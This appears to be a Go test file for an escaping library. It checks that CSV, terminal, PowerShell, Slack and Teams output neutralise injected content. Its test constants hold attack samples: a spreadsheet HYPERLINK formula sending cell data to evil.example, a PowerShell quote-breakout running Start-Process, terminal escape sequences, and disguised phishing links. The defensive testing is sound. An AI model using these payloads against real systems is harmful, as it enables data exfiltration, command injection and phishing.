package escape

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"
)

// The attack strings of issue 11's table, and a few of their relatives.
const (
	attackHyperlink = `=HYPERLINK("https://evil.example/?d="&A1,"Click")`
	attackSum       = `@SUM(1+1)`
	attackMinus     = `-2+3`
	attackPSQuote   = "x\u2019; Start-Process calc; #"
	attackSlack     = "rule```\n<!channel> see <https://evil.example/x|https://login.microsoftonline.com>"
	attackTeams     = "[teams](https://evil.example)"
	attackTerminal  = "rule\x1b]0;owned\x07\x1b[2J\x1b[H"
)

func TestCSVCellPrefixesEveryFormulaStart(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{attackHyperlink, "'" + attackHyperlink},
		{attackSum, "'" + attackSum},
		{attackMinus, "'" + attackMinus},
		{"+1", "'+1"},
		{"\tx", "'\tx"},
		{"\r=1", "'\r=1"},
		{"\uff1d1+1", "'\uff1d1+1"},
		{"\uff20SUM(1)", "'\uff20SUM(1)"},
		{"", ""},
		{"megan@contoso.com", "megan@contoso.com"},
		{"a=b", "a=b"},
		{"2026-11-20T00:00:00Z", "2026-11-20T00:00:00Z"},
		{"'already", "'already"},
	} {
		if got := CSVCell(tc.in); got != tc.want {
			t.Errorf("CSVCell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestCSVWriterWritesNoCellThatStartsAFormula(t *testing.T) {
	var buf bytes.Buffer
	w := NewCSVWriter(&buf)
	row := []string{attackHyperlink, attackSum, attackMinus, "plain", "\t=1", "\r@x"}
	if err := w.Write(row); err != nil {
		t.Fatal(err)
	}
	w.Flush()
	if err := w.Error(); err != nil {
		t.Fatal(err)
	}
	back, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(back) != 1 || len(back[0]) != len(row) {
		t.Fatalf("read back %q", back)
	}
	for i, cell := range back[0] {
		if strings.ContainsAny(cell[:1], "=+-@\t\r") {
			t.Errorf("cell %d = %q starts a formula", i, cell)
		}
		if want := CSVCell(row[i]); cell != want {
			t.Errorf("cell %d = %q, want %q (the rest unchanged)", i, cell, want)
		}
	}
}

func TestTerminalShowsControlCharactersAsEscapes(t *testing.T) {
	for _, tc := range []struct{ in, want, cell string }{
		{attackTerminal, `rule\x1b]0;owned\x07\x1b[2J\x1b[H`, `rule\x1b]0;owned\x07\x1b[2J\x1b[H`},
		{"a\tb\nc", "a\tb\nc", `a\tb\nc`},
		{"cr\rover", `cr\rover`, `cr\rover`},
		{"del\x7f", `del\x7f`, `del\x7f`},
		{"c1 csi \u009b2J", `c1 csi \u009b2J`, `c1 csi \u009b2J`},
		{"raw 8-bit csi \x9b2J", `raw 8-bit csi \x9b2J`, `raw 8-bit csi \x9b2J`},
		{"nul\x00", `nul\x00`, `nul\x00`},
		{"bidi \u202eexe.txt", `bidi \u202eexe.txt`, `bidi \u202eexe.txt`},
		{"line\u2028sep", `line\u2028sep`, `line\u2028sep`},
		{"Zoë’s ünïcode ✓ \ufffd", "Zoë’s ünïcode ✓ \ufffd", "Zoë’s ünïcode ✓ \ufffd"},
		{"plain", "plain", "plain"},
	} {
		if got := Terminal(tc.in); got != tc.want {
			t.Errorf("Terminal(%q) = %q, want %q", tc.in, got, tc.want)
		}
		if got := TerminalCell(tc.in); got != tc.cell {
			t.Errorf("TerminalCell(%q) = %q, want %q", tc.in, got, tc.cell)
		}
	}
}

func TestTerminalNeverPassesAControlByte(t *testing.T) {
	// Every byte value alone, after ASCII and after a multi-byte rune.
	for b := 0; b < 256; b++ {
		for _, s := range []string{string([]byte{byte(b)}), "a" + string([]byte{byte(b)}), "é" + string([]byte{byte(b)}) + "z"} {
			for _, out := range []string{Terminal(s), TerminalCell(s)} {
				assertNoControl(t, s, out, out == Terminal(s))
			}
		}
	}
	// Every rune up to U+FFFF.
	for r := rune(0); r < 0x10000; r++ {
		s := "x" + string(r)
		assertNoControl(t, s, Terminal(s), true)
		assertNoControl(t, s, TerminalCell(s), false)
	}
}

func assertNoControl(t *testing.T, in, out string, tabNewlineOK bool) {
	t.Helper()
	if !utf8.ValidString(out) {
		t.Fatalf("escaping %q gave %q: not UTF-8", in, out)
	}
	for _, r := range out {
		if (r == '\t' || r == '\n') && tabNewlineOK {
			continue
		}
		if isControl(r) {
			t.Fatalf("escaping %q gave %q: raw %U", in, out, r)
		}
	}
}

// psEval evaluates the expressions PowerShell returns, the way PowerShell's tokenizer
// reads them (PowerShell Language Specification 2.3.5.2: in a verbatim string any of
// the five single-quote characters ends the literal unless another one follows, and the
// pair stands for one character). It fails when anything follows the expression, that
// is, when text could have left the literal.
func psEval(expr string) (string, error) {
	rs := []rune(expr)
	i := 0
	lit := func() (string, error) {
		if i >= len(rs) || !isSingleQuote(rs[i]) {
			return "", fmt.Errorf("no literal at %d in %q", i, expr)
		}
		i++
		var b strings.Builder
		for {
			if i >= len(rs) {
				return "", fmt.Errorf("unterminated literal in %q", expr)
			}
			if isSingleQuote(rs[i]) {
				if i+1 < len(rs) && isSingleQuote(rs[i+1]) {
					b.WriteRune(rs[i+1])
					i += 2
					continue
				}
				i++
				return b.String(), nil
			}
			b.WriteRune(rs[i])
			i++
		}
	}
	var out string
	if len(rs) > 0 && rs[0] == '(' {
		i = 1
		for {
			if strings.HasPrefix(string(rs[i:]), "[char]0x") {
				i += len("[char]0x")
				j := i
				for j < len(rs) && strings.ContainsRune("0123456789abcdef", rs[j]) {
					j++
				}
				n, err := strconv.ParseUint(string(rs[i:j]), 16, 16)
				if err != nil {
					return "", fmt.Errorf("bad [char] in %q", expr)
				}
				out += string(rune(n))
				i = j
			} else {
				s, err := lit()
				if err != nil {
					return "", err
				}
				out += s
			}
			if strings.HasPrefix(string(rs[i:]), " + ") {
				i += 3
				continue
			}
			if i < len(rs) && rs[i] == ')' {
				i++
				break
			}
			return "", fmt.Errorf("unexpected %q in %q", string(rs[i:]), expr)
		}
	} else {
		s, err := lit()
		if err != nil {
			return "", err
		}
		out = s
	}
	if i != len(rs) {
		return "", fmt.Errorf("text after the literal: %q in %q", string(rs[i:]), expr)
	}
	return out, nil
}

func TestPowerShellDoublesEverySingleQuote(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{attackPSQuote, "'x\u2019\u2019; Start-Process calc; #'"},
		{"x'; Start-Process calc; #", "'x''; Start-Process calc; #'"},
		{"a\u2018b\u201ac\u201bd'", "'a\u2018\u2018b\u201a\u201ac\u201b\u201bd'''"},
		{"megan.bowen@contoso.com", "'megan.bowen@contoso.com'"},
		{"", "''"},
		{"$(calc) `n \"dq\"", "'$(calc) `n \"dq\"'"},
		{"rule\nname", "('rule' + [char]0x0a + 'name')"},
		{"\x1b[2J", "('' + [char]0x1b + '[2J')"},
		{"end\r\n", "('end' + [char]0x0d + [char]0x0a)"},
		{"\u202eevil", "('' + [char]0x202e + 'evil')"},
	} {
		got := PowerShell(tc.in)
		if got != tc.want {
			t.Errorf("PowerShell(%q) = %q, want %q", tc.in, got, tc.want)
		}
		v, err := psEval(got)
		if err != nil {
			t.Errorf("PowerShell(%q): %v", tc.in, err)
		} else if v != tc.in {
			t.Errorf("PowerShell(%q) evaluates to %q", tc.in, v)
		}
	}
}

func FuzzPowerShell(f *testing.F) {
	for _, s := range []string{attackPSQuote, attackTerminal, attackSlack, "''''", "\u2019\u2018'\u201a\u201b", "a\x00b"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if !utf8.ValidString(s) {
			s = strings.ToValidUTF8(s, "\ufffd")
		}
		got := PowerShell(s)
		v, err := psEval(got)
		if err != nil {
			t.Fatalf("PowerShell(%q) = %q: %v", s, got, err)
		}
		if v != s {
			t.Fatalf("PowerShell(%q) = %q evaluates to %q", s, got, v)
		}
		assertNoControl(t, s, got, false)
	})
}

func TestSlackMakesMentionsAndDisguisedLinksInert(t *testing.T) {
	got := Slack(attackSlack)
	for _, live := range []string{"<!channel>", "<https://", "|https://login.microsoftonline.com>"} {
		if strings.Contains(got, live) {
			t.Errorf("Slack(%q) = %q still holds %q", attackSlack, got, live)
		}
	}
	if strings.ContainsAny(got, "<>") {
		t.Errorf("Slack(%q) = %q holds < or >", attackSlack, got)
	}
	if want := "a &amp;lt; b &lt;!here&gt; \\x1b"; Slack("a &lt; b <!here> \x1b") != want {
		t.Errorf("Slack = %q, want %q", Slack("a &lt; b <!here> \x1b"), want)
	}
	md := SlackMrkdwn(attackSlack)
	if strings.Contains(md, "`") {
		t.Errorf("SlackMrkdwn(%q) = %q: a backtick can close a code block", attackSlack, md)
	}
}

func TestTeamsMarkdownShowsLinksAsText(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{attackTeams, `\[teams\]\(https://evil.example\)`},
		{"**bold** _it_ `code`", `\*\*bold\*\* \_it\_ \` + "`" + `code\` + "`"},
		{"- item\n+ item\n12. item\n 3. x", "\\- item\n\\+ item\n12\\. item\n 3\\. x"},
		{"a-b 1.5 megan.bowen@contoso.com", "a-b 1.5 megan.bowen@contoso.com"},
		{"{{DATE(2026-01-01T00:00:00Z)}}", `\{\{DATE\(2026-01-01T00:00:00Z\)\}\}`},
		{`C:\x` + "\x1b", `C:\\x\\x1b`},
	} {
		if got := TeamsMarkdown(tc.in); got != tc.want {
			t.Errorf("TeamsMarkdown(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
	if got := TeamsMarkdown(attackTeams); strings.Contains(got, "](") {
		t.Errorf("TeamsMarkdown(%q) = %q: still a link", attackTeams, got)
	}
}

func TestTerminalWriterEscapesWhatIsWrittenToIt(t *testing.T) {
	var buf bytes.Buffer
	w := NewTerminalWriter(&buf)
	msg := "o365ingest: run: api: AF50000 " + attackTerminal + "\n"
	n, err := w.Write([]byte(msg))
	if err != nil || n != len(msg) {
		t.Fatalf("Write = %d, %v; want %d, nil", n, err, len(msg))
	}
	if want := Terminal(msg); buf.String() != want || !strings.HasSuffix(buf.String(), "\n") {
		t.Errorf("wrote %q, want %q", buf.String(), want)
	}
	if strings.ContainsRune(buf.String(), 0x1b) {
		t.Errorf("ESC reached the writer: %q", buf.String())
	}
	buf.Reset()
	plain := `{"time":"2026-03-02T09:00:00Z","level":"INFO","msg":"run","rule":"x\u001b","name":"Zoë"}` + "\n"
	w.Write([]byte(plain))
	if buf.String() != plain {
		t.Errorf("a JSON log line changed: %q", buf.String())
	}
	if w.Fd() != ^uintptr(0) {
		t.Errorf("Fd of a writer over a buffer = %d, want ^0", w.Fd())
	}
}
